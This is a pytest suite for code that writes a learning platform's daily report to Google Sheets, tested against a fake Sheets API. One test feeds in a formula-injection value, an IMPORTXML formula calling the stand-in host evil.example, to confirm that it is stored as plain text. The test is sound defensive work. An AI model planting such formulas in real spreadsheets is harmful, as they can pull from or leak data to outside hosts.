"""Publishing the report to Google Sheets: one row per date, kept in order, and a rewritten summary.

Real gspread and google-auth code runs against the fake Sheets API (``tests/fakes``); the
tests assert on the requests sent and on what the sheet then holds.
"""

from __future__ import annotations

from datetime import UTC, date, datetime
from typing import Any
from zoneinfo import ZoneInfo

import gspread
import pytest

from include.common.google_sheets import GoogleSheetsError
from include.common.http import TransientSourceError
from include.learning_platform.report_layout import history_columns
from include.learning_platform.report_model import DailyReport
from include.learning_platform.sheets_report import (
    Placement,
    SheetsTarget,
    place_date,
    publish_to_sheets,
    serial_day,
    serial_time,
    spreadsheet_key,
    summary_layout,
)
from include.learning_platform.texts import ENGLISH, RUSSIAN, Texts
from tests.fakes.google_sheets import CLIENT_EMAIL, FakeGoogleSheets, no_wait
from tests.include.learning_platform.reports import DAY, FAILED, build_report, empty_day, figures

KEY = "1AbCdEfGhIjKlMnOpQrStUvWxYz0123456789abcdEFG"
TARGET = SheetsTarget(KEY, "History", "Daily report")
DAY_SERIAL = 46348  # days from 1899-12-30 to 2026-11-22
NO_WAIT = no_wait()


def publish(client: gspread.Client, report: DailyReport, texts: Texts = ENGLISH) -> str:
    return publish_to_sheets(client, TARGET, report, texts, policy=NO_WAIT)


# --- reading the fake ----------------------------------------------------------------------------


def history_dates(google: FakeGoogleSheets) -> list[Any]:
    return [row[0] for row in google.values(KEY, "History")[1:]]


def history_batches(google: FakeGoogleSheets) -> list[dict[str, Any]]:
    """The batchUpdate bodies that wrote a history row (they rewrite the header at row 0)."""
    return [
        r.body
        for r in google.batch_updates()
        if any(q.get("updateCells", {}).get("start", {}).get("rowIndex") == 0 for q in r.requests)
    ]


def sheet_id(google: FakeGoogleSheets, title: str) -> int:
    return google.sheet(KEY, title).sheet_id


# --- the first publish ---------------------------------------------------------------------------


def test_first_publish_adds_both_worksheets_and_sends_these_requests(
    google: FakeGoogleSheets, gspread_client: gspread.Client
) -> None:
    google.add_spreadsheet(KEY)

    publish(gspread_client, build_report())

    calls = [(r.method, r.path.removeprefix(KEY), r.params) for r in google.requests]
    metadata = ("GET", "", {"includeGridData": "false"})
    assert calls == [
        metadata,  # open_by_key
        metadata,  # the worksheets
        ("POST", ":batchUpdate", {}),
        (
            "GET",
            "/values/'History'!A1:A",
            {"valueRenderOption": "UNFORMATTED_VALUE", "majorDimension": "COLUMNS"},
        ),
        ("POST", ":batchUpdate", {}),
        ("POST", "/values/'Daily report':clear", {}),
        ("POST", ":batchUpdate", {}),
        ("PUT", "/values/'Daily report'!A1", {"valueInputOption": "RAW"}),
    ]
    assert all(r.status == 200 for r in google.requests)
    assert google.token_requests == 1
    add_sheets = google.requests[2].requests
    assert add_sheets == [
        {
            "addSheet": {
                "properties": {"title": "History", "gridProperties": {"rowCount": 1000, "columnCount": 13}}
            }
        },
        {
            "addSheet": {
                "properties": {"title": "Daily report", "gridProperties": {"rowCount": 100, "columnCount": 8}}
            }
        },
    ]


def test_first_publish_writes_the_header_and_the_days_row_in_one_atomic_batch(
    google: FakeGoogleSheets, gspread_client: gspread.Client
) -> None:
    google.add_spreadsheet(KEY)

    publish(gspread_client, build_report())

    history = sheet_id(google, "History")
    [batch] = history_batches(google)
    header = [
        {
            "userEnteredValue": {"stringValue": column.label},
            "userEnteredFormat": {"textFormat": {"bold": True}},
        }
        for column in history_columns(ENGLISH)
    ]
    computed_at = DAY_SERIAL + 1 + 5 * 60 / 86_400  # 2026-11-23 00:05 UTC
    row = [
        {"userEnteredValue": {"numberValue": value}}
        for value in (DAY_SERIAL, 40, 300, 120, 45, 0.375, 3.0, 1.125, 440, 420, 20)
    ] + [{"userEnteredValue": {"stringValue": "passed"}}, {"userEnteredValue": {"numberValue": computed_at}}]

    def formats(start: int, end: int, number_format: dict[str, str] | None) -> dict[str, Any]:
        cell: dict[str, Any] = {"textFormat": {"bold": False}}
        if number_format:
            cell["numberFormat"] = number_format
        grid = {"sheetId": history, "startRowIndex": 1, "startColumnIndex": start, "endColumnIndex": end}
        fields = "userEnteredFormat.numberFormat,userEnteredFormat.textFormat.bold"
        return {"repeatCell": {"range": grid, "cell": {"userEnteredFormat": cell}, "fields": fields}}

    integer = {"type": "NUMBER", "pattern": "#,##0"}
    assert batch["requests"] == [
        {
            "insertDimension": {
                "range": {"sheetId": history, "dimension": "ROWS", "startIndex": 1, "endIndex": 2},
                "inheritFromBefore": False,
            }
        },
        {
            "updateSheetProperties": {
                "properties": {"sheetId": history, "gridProperties": {"frozenRowCount": 1}},
                "fields": "gridProperties.frozenRowCount",
            }
        },
        {
            "updateCells": {
                "start": {"sheetId": history, "rowIndex": 0, "columnIndex": 0},
                "rows": [{"values": header}],
                "fields": "userEnteredValue,userEnteredFormat.textFormat.bold",
            }
        },
        {
            "updateCells": {
                "start": {"sheetId": history, "rowIndex": 1, "columnIndex": 0},
                "rows": [{"values": row}],
                "fields": "userEnteredValue",
            }
        },
        formats(0, 1, {"type": "DATE", "pattern": "yyyy-mm-dd"}),
        formats(1, 5, integer),
        formats(5, 6, {"type": "PERCENT", "pattern": "0.00%"}),
        formats(6, 8, {"type": "NUMBER", "pattern": "0.00"}),
        formats(8, 11, integer),
        formats(11, 12, None),
        formats(12, 13, {"type": "DATE_TIME", "pattern": "yyyy-mm-dd hh:mm"}),
    ]
    sheet = google.sheet(KEY, "History")
    assert sheet.frozen_rows == 1
    assert google.values(KEY, "History")[1] == [
        DAY_SERIAL,
        40,
        300,
        120,
        45,
        0.375,
        3,
        1.125,
        440,
        420,
        20,
        "passed",
        computed_at,
    ]


def test_first_publish_writes_the_summary_raw_with_its_formats_in_one_batch(
    google: FakeGoogleSheets, gspread_client: gspread.Client
) -> None:
    google.add_spreadsheet(KEY)

    url = publish(gspread_client, build_report())

    summary = sheet_id(google, "Daily report")
    assert url == f"https://docs.google.com/spreadsheets/d/{KEY}#gid={summary}"
    [values_update] = [r for r in google.requests if r.method == "PUT"]
    assert values_update.range == "'Daily report'!A1"
    assert values_update.params == {"valueInputOption": "RAW"}
    computed_at = DAY_SERIAL + 1 + 5 * 60 / 86_400
    assert values_update.body == {
        "majorDimension": None,
        "values": [
            ["Learning platform: daily report — 2026-11-22"],
            [],
            ["Daily report"],
            ["Metric", "Value"],
            ["Date", DAY_SERIAL],
            ["Covered interval", "2026-11-22 00:00 – 2026-11-23 00:00 UTC"],
            ["Computed at (UTC)", computed_at],
            ["Data quality", "passed"],
            [],
            ["Figures"],
            ["Metric", "Value"],
            ["Unique users", 40],
            ["Runs", 300],
            ["Submits", 120],
            ["Successful submits", 45],
            ["Share of successful submits", 0.375],
            ["Submits per user", 3.0],
            ["Successful submits per user", 1.125],
            ["Records fetched", 440],
            ["Attempts loaded", 420],
            ["Loaded with flagged defects", 3],
            ["Records quarantined", 20],
            ["Boundary copies (judged with the next window)", 0],
            [],
            ["Quarantined records by reason"],
            ["Reason", "Records"],
            ["User id missing", 12],
            ["Time malformed", 8],
            [],
            ["By course"],
            [
                "Course",
                "Unique users",
                "Runs",
                "Submits",
                "Successful submits",
                "Share of successful submits",
            ],
            ["course-a", 30, 200, 90, 40, 40 / 90],
            ["(course unknown)", 10, 100, 30, 5, 5 / 30],
            [],
            ["Data-quality checks"],
            ["Check", "Result", "Observed", "Expected"],
            ["Attempts loaded unless the source was empty", "passed", "420", "> 0"],
            ["Share of rejected records under the threshold", "passed", "4.55%", "<= 5.00%"],
        ],
    }
    [clear] = [r for r in google.requests if r.path.endswith(":clear")]
    assert clear.range == "'Daily report'"
    formats = google.batch_updates()[-1].requests
    assert formats[0] == {
        "updateSheetProperties": {
            "properties": {"sheetId": summary, "gridProperties": {"frozenRowCount": 1}},
            "fields": "gridProperties.frozenRowCount",
        }
    }
    assert formats[1] == {
        "repeatCell": {
            "range": {"sheetId": summary},
            "cell": {"userEnteredFormat": {}},
            "fields": "userEnteredFormat",
        }
    }
    assert formats[2]["repeatCell"]["cell"] == {
        "userEnteredFormat": {"textFormat": {"bold": True, "fontSize": 14}}
    }
    bold_blocks = [
        _span(q["repeatCell"]["range"])
        for q in formats
        if "repeatCell" in q and q["repeatCell"]["fields"] == "userEnteredFormat.textFormat.bold"
    ]
    assert bold_blocks == [(2, 4, 0, 2), (9, 11, 0, 2), (24, 26, 0, 2), (29, 31, 0, 6), (34, 36, 0, 4)]
    number_formats = [
        (
            *_span(q["repeatCell"]["range"]),
            q["repeatCell"]["cell"]["userEnteredFormat"]["numberFormat"]["pattern"],
        )
        for q in formats
        if "repeatCell" in q and q["repeatCell"]["fields"] == "userEnteredFormat.numberFormat"
    ]
    assert number_formats == [
        (4, 5, 1, 2, "yyyy-mm-dd"),
        (6, 7, 1, 2, "yyyy-mm-dd hh:mm"),
        (11, 15, 1, 2, "#,##0"),
        (15, 16, 1, 2, "0.00%"),
        (16, 18, 1, 2, "0.00"),
        (18, 23, 1, 2, "#,##0"),
        (26, 28, 1, 2, "#,##0"),
        (31, 33, 1, 2, "#,##0"),
        (31, 33, 2, 3, "#,##0"),
        (31, 33, 3, 4, "#,##0"),
        (31, 33, 4, 5, "#,##0"),
        (31, 33, 5, 6, "0.00%"),
    ]
    widths = [q["updateDimensionProperties"] for q in formats if "updateDimensionProperties" in q]
    assert [
        (w["range"]["startIndex"], w["range"]["endIndex"], w["properties"]["pixelSize"]) for w in widths
    ] == [
        (0, 1, 340),
        (1, 6, 150),
    ]
    sheet = google.sheet(KEY, "Daily report")
    assert sheet.format(31, 5)["numberFormat"] == {"type": "PERCENT", "pattern": "0.00%"}
    assert sheet.format(2, 0)["textFormat"] == {"bold": True}


def _span(grid: dict[str, int]) -> tuple[int, int, int, int]:
    return grid["startRowIndex"], grid["endRowIndex"], grid["startColumnIndex"], grid["endColumnIndex"]


# --- reruns and backfills ------------------------------------------------------------------------


def test_rerun_of_a_date_updates_its_row_in_place(
    google: FakeGoogleSheets, gspread_client: gspread.Client
) -> None:
    google.add_spreadsheet(KEY)
    publish(gspread_client, build_report())
    rows_before = google.sheet(KEY, "History").row_count

    publish(gspread_client, build_report(day_figures=figures(users=50)))

    assert google.sheet(KEY, "History").row_count == rows_before
    assert history_dates(google) == [DAY_SERIAL]
    assert google.values(KEY, "History")[1][1] == 50
    rerun = history_batches(google)[-1]
    assert "insertDimension" not in str(rerun)
    assert sum("addSheet" in r.kinds for r in google.batch_updates()) == 1  # worksheets added once


def test_backfilled_dates_are_inserted_in_date_order(
    google: FakeGoogleSheets, gspread_client: gspread.Client
) -> None:
    google.add_spreadsheet(KEY)

    for day in (date(2026, 11, 22), date(2026, 11, 24), date(2026, 11, 20), date(2026, 11, 23)):
        publish(gspread_client, build_report(day))

    assert history_dates(google) == [DAY_SERIAL - 2, DAY_SERIAL, DAY_SERIAL + 1, DAY_SERIAL + 2]
    inserts = [
        q["insertDimension"]["range"]["startIndex"]
        for b in history_batches(google)
        for q in b["requests"]
        if "insertDimension" in q
    ]
    assert inserts == [1, 2, 1, 3]


def test_an_older_date_published_after_a_newer_one_leaves_the_summary_showing_the_newer(
    google: FakeGoogleSheets, gspread_client: gspread.Client
) -> None:
    google.add_spreadsheet(KEY)
    newer = build_report()
    publish(gspread_client, newer)

    publish(gspread_client, build_report(date(2026, 11, 19), day_figures=figures(users=7)))

    expected = summary_layout(newer, ENGLISH).values
    assert google.values(KEY, "Daily report") == [[None if v == "" else v for v in row] for row in expected]
    assert history_dates(google) == [DAY_SERIAL - 3, DAY_SERIAL]


def test_a_rerun_of_the_latest_date_rewrites_the_summary(
    google: FakeGoogleSheets, gspread_client: gspread.Client
) -> None:
    google.add_spreadsheet(KEY)
    publish(gspread_client, build_report(date(2026, 11, 19)))
    publish(gspread_client, build_report())

    rerun = build_report(day_figures=figures(users=50))
    publish(gspread_client, rerun)

    expected = summary_layout(rerun, ENGLISH).values
    assert google.values(KEY, "Daily report") == [[None if v == "" else v for v in row] for row in expected]


def test_rows_a_person_added_below_the_table_stay_below_it(
    google: FakeGoogleSheets, gspread_client: gspread.Client
) -> None:
    google.add_spreadsheet(KEY, worksheets=("History", "Daily report"))
    google.fill(KEY, "History", [["Date"], [DAY_SERIAL - 1], [], ["Note: figures before 2026 are estimates"]])

    publish(gspread_client, build_report())

    assert [row[:1] for row in google.values(KEY, "History")] == [
        ["Date"],
        [DAY_SERIAL - 1],
        [DAY_SERIAL],
        [],
        ["Note: figures before 2026 are estimates"],
    ]


def test_duplicate_rows_of_a_date_are_collapsed_into_the_first(
    google: FakeGoogleSheets, gspread_client: gspread.Client
) -> None:
    google.add_spreadsheet(KEY, worksheets=("History", "Daily report"))
    google.fill(
        KEY,
        "History",
        [
            ["Date", "old"],
            [DAY_SERIAL - 2, "a"],
            [DAY_SERIAL, "b"],
            ["2026-11-22", "c"],  # typed as text by an older tool
            [DAY_SERIAL + 2, "d"],
            [DAY_SERIAL, "e"],
        ],
    )

    publish(gspread_client, build_report())

    values = google.values(KEY, "History")
    assert [row[0] for row in values[1:]] == [DAY_SERIAL - 2, DAY_SERIAL, DAY_SERIAL + 2]
    assert values[2][1] == 40  # the first row of the date holds the new figures
    [batch] = history_batches(google)
    deletions = [q["deleteDimension"]["range"] for q in batch["requests"] if "deleteDimension" in q]
    assert [(d["startIndex"], d["endIndex"]) for d in deletions] == [(5, 6), (3, 4)]  # bottom-up


def test_header_is_rewritten_in_the_chosen_language(
    google: FakeGoogleSheets, gspread_client: gspread.Client
) -> None:
    google.add_spreadsheet(KEY)
    publish(gspread_client, build_report(), ENGLISH)

    publish(gspread_client, build_report(), RUSSIAN)

    values = google.values(KEY, "History")
    assert values[0] == [column.label for column in history_columns(RUSSIAN)]
    assert values[0][:3] == ["Дата", "Уникальные пользователи", "Запуски кода"]
    assert values[1][11] == "пройдена"
    summary = google.values(KEY, "Daily report")
    assert summary[0] == ["Обучающая платформа: ежедневный отчёт — 2026-11-22"]
    assert summary[2] == ["Отчёт за день"]


# --- what the summary says -----------------------------------------------------------------------


def test_an_empty_day_publishes_and_says_there_is_no_data(
    google: FakeGoogleSheets, gspread_client: gspread.Client
) -> None:
    google.add_spreadsheet(KEY)

    publish(gspread_client, empty_day())

    row = google.values(KEY, "History")[1]
    assert row[:6] == [DAY_SERIAL, 0, 0, 0, 0, None]  # no share: an empty cell, not 0 %
    assert row[6:8] == [None, None]
    summary = google.values(KEY, "Daily report")
    assert summary[1:3] == [[ENGLISH.not_checked], [ENGLISH.no_data]]
    figures_rows = {row[0]: row[1:] for row in summary if row}
    assert figures_rows[ENGLISH.success_share] == []  # an empty cell


def test_warnings_stand_right_under_the_title_in_bold_red_and_stay_in_view(
    google: FakeGoogleSheets, gspread_client: gspread.Client
) -> None:
    google.add_spreadsheet(KEY)

    publish(gspread_client, build_report(checks=FAILED, hours=3))

    summary = google.values(KEY, "Daily report")
    assert summary[1] == [
        "The figures are UNRELIABLE: data-quality checks failed: "
        "Share of rejected records under the threshold."
    ]
    assert summary[2] == [
        "These figures cover only 2026-11-22 00:00 – 2026-11-22 03:00 UTC (test mode), not the whole day."
    ]
    sheet = google.sheet(KEY, "Daily report")
    for row in (1, 2):
        text_format = sheet.format(row, 0)["textFormat"]
        assert text_format["bold"] is True
        assert text_format["foregroundColorStyle"]["rgbColor"]["red"] > 0.5
    assert not sheet.format(3, 0)
    assert sheet.frozen_rows == 3


def test_a_day_without_warnings_has_no_warning_rows() -> None:
    layout = summary_layout(build_report(), ENGLISH)

    assert layout.values[1] == []
    assert not layout.notice_rows


def test_the_summary_is_rewritten_whole_leaving_nothing_of_the_previous_day(
    google: FakeGoogleSheets, gspread_client: gspread.Client
) -> None:
    google.add_spreadsheet(KEY)
    many = tuple((f"course-{n}", figures()) for n in range(12))
    publish(gspread_client, build_report(date(2026, 11, 21), courses=many, checks=FAILED))

    publish(gspread_client, build_report())

    expected = summary_layout(build_report(), ENGLISH).values
    assert google.values(KEY, "Daily report") == [[None if v == "" else v for v in row] for row in expected]
    sheet = google.sheet(KEY, "Daily report")
    assert not sheet.format(1, 0)  # yesterday's red warning row is plain again


def test_text_that_looks_like_a_formula_stays_text(
    google: FakeGoogleSheets, gspread_client: gspread.Client
) -> None:
    google.add_spreadsheet(KEY)
    hostile = '=IMPORTXML("https://evil.example", "//a")'

    publish(gspread_client, build_report(courses=((hostile, figures()),)))

    sheet = google.sheet(KEY, "Daily report")
    row = next(r for r in range(sheet.row_count) if sheet.value(r, 0) == hostile)
    assert sheet.cell(row, 0)["userEnteredValue"] == {"stringValue": hostile}


def test_an_existing_summary_sheet_too_small_for_the_report_is_grown(
    google: FakeGoogleSheets, gspread_client: gspread.Client
) -> None:
    google.add_spreadsheet(KEY, worksheets=("History", "Daily report"), rows=10, columns=3)

    publish(gspread_client, build_report())

    sheet = google.sheet(KEY, "Daily report")
    assert (sheet.row_count, sheet.column_count) == (38, 6)
    assert google.sheet(KEY, "History").column_count == 13


# --- faults --------------------------------------------------------------------------------------


def test_rate_limit_answers_are_retried_until_the_publish_succeeds(
    google: FakeGoogleSheets, gspread_client: gspread.Client
) -> None:
    google.add_spreadsheet(KEY)
    google.fail_next(429, times=2, retry_after="0")

    publish(gspread_client, build_report())

    assert [r.status for r in google.requests[:3]] == [429, 429, 200]
    assert len(google.requests) == 8 + 2
    assert history_dates(google) == [DAY_SERIAL]


def test_server_errors_are_retried(google: FakeGoogleSheets, gspread_client: gspread.Client) -> None:
    google.add_spreadsheet(KEY)
    google.fail_next(500, path_contains=":batchUpdate")
    google.fail_next(503, method="PUT")

    publish(gspread_client, build_report())

    assert sorted(r.status for r in google.requests if r.status != 200) == [500, 503]
    assert google.values(KEY, "Daily report")[2] == ["Daily report"]


def test_a_lost_answer_to_an_insert_does_not_duplicate_the_row(
    google: FakeGoogleSheets, gspread_client: gspread.Client
) -> None:
    google.add_spreadsheet(KEY, worksheets=("History", "Daily report"))
    google.fail_next(503, path_contains=":batchUpdate", after_applying=True)

    publish(gspread_client, build_report())

    assert history_dates(google) == [DAY_SERIAL]
    [lost] = [r for r in google.requests if r.status == 503]
    assert "insertDimension" in lost.kinds  # applied, though the answer said otherwise
    [retried] = history_batches(google)
    assert "insertDimension" not in str(retried)
    column_reads = [r for r in google.requests if r.range == "'History'!A1:A"]
    assert len(column_reads) == 2  # the retry re-read the dates before deciding again


def test_persistent_rate_limiting_gives_up_after_the_policys_attempts(
    google: FakeGoogleSheets, gspread_client: gspread.Client
) -> None:
    google.add_spreadsheet(KEY)
    google.fail_next(429, times=100, retry_after="0")
    policy = no_wait(3)

    with pytest.raises(TransientSourceError, match=r"gave up after 3 attempts.*429"):
        publish_to_sheets(gspread_client, TARGET, build_report(), ENGLISH, policy=policy)

    assert len(google.requests) == 3


def test_a_spreadsheet_not_shared_with_the_account_fails_at_once_saying_whom_to_share_it_with(
    google: FakeGoogleSheets, gspread_client: gspread.Client
) -> None:
    google.add_spreadsheet(KEY, shared_with={"someone-else@example.org"})

    with pytest.raises(GoogleSheetsError, match=f"Share the spreadsheet with {CLIENT_EMAIL}") as raised:
        publish(gspread_client, build_report())

    assert raised.value.status == 403
    assert len(google.requests) == 1


def test_a_wrong_spreadsheet_key_fails_at_once_saying_so(
    google: FakeGoogleSheets, gspread_client: gspread.Client
) -> None:
    with pytest.raises(GoogleSheetsError, match="spreadsheet id is wrong"):
        publish(gspread_client, build_report())

    assert len(google.requests) == 1


# --- the target ----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "given",
    [
        KEY,
        f"https://docs.google.com/spreadsheets/d/{KEY}/edit#gid=0",
        f"  https://docs.google.com/spreadsheets/d/{KEY}  ",
        f"https://docs.google.com/spreadsheet/ccc?key={KEY}&usp=sharing",
    ],
)
def test_the_spreadsheet_is_given_by_key_or_url(given: str) -> None:
    assert spreadsheet_key(given) == KEY
    assert SheetsTarget(given, "History", "Daily report").key == KEY


@pytest.mark.parametrize("given", ["Learning platform report", "Reports", "https://example.org/sheet", ""])
def test_a_title_or_a_foreign_url_is_refused_before_any_request(given: str) -> None:
    with pytest.raises(ValueError, match=r"by title|not a Google Sheets URL"):
        SheetsTarget(given, "History", "Daily report")


def test_history_and_summary_need_different_worksheets() -> None:
    with pytest.raises(ValueError, match="different worksheets"):
        SheetsTarget(KEY, "Report", "Report")


def test_a_url_opens_the_same_spreadsheet(google: FakeGoogleSheets, gspread_client: gspread.Client) -> None:
    google.add_spreadsheet(KEY)
    target = SheetsTarget(f"https://docs.google.com/spreadsheets/d/{KEY}/edit", "History", "Daily report")

    url = publish_to_sheets(gspread_client, target, build_report(), ENGLISH, policy=NO_WAIT)

    assert url.startswith(f"https://docs.google.com/spreadsheets/d/{KEY}#gid=")


# --- placing a date, serial numbers --------------------------------------------------------------


@pytest.mark.parametrize(
    ("column_a", "expected"),
    [
        ([], Placement(1, insert=True)),
        (["Date"], Placement(1, insert=True)),
        (["Date", DAY_SERIAL], Placement(1, insert=False)),
        (["Date", DAY_SERIAL - 1, DAY_SERIAL + 1], Placement(2, insert=True)),
        (["Date", DAY_SERIAL + 1], Placement(1, insert=True)),
        (["Date", DAY_SERIAL - 1], Placement(2, insert=True)),
        (["Date", DAY_SERIAL - 1, "", "a note"], Placement(2, insert=True)),
        (["Date", DAY_SERIAL, "", DAY_SERIAL, "2026-11-22"], Placement(1, insert=False, duplicates=(3, 4))),
        (["Date", DAY_SERIAL + 0.75], Placement(1, insert=False)),  # a date-time serial on that day
        ([DAY_SERIAL], Placement(1, insert=True)),  # row 1 is the header, whatever it holds
    ],
)
def test_a_date_is_placed_by_the_dates_in_column_a(column_a: list[Any], expected: Placement) -> None:
    assert place_date(column_a, DAY) == expected


def test_serial_numbers_count_days_from_1899_12_30_in_utc() -> None:
    assert serial_day(date(1899, 12, 31)) == 1
    assert serial_day(DAY) == DAY_SERIAL
    moscow = datetime(2026, 11, 22, 3, 0, tzinfo=UTC).astimezone(ZoneInfo("Europe/Moscow"))
    assert serial_time(moscow) == DAY_SERIAL + 0.125
    with pytest.raises(ValueError, match="timezone-aware"):
        serial_time(datetime(2026, 11, 22, 3, 0))
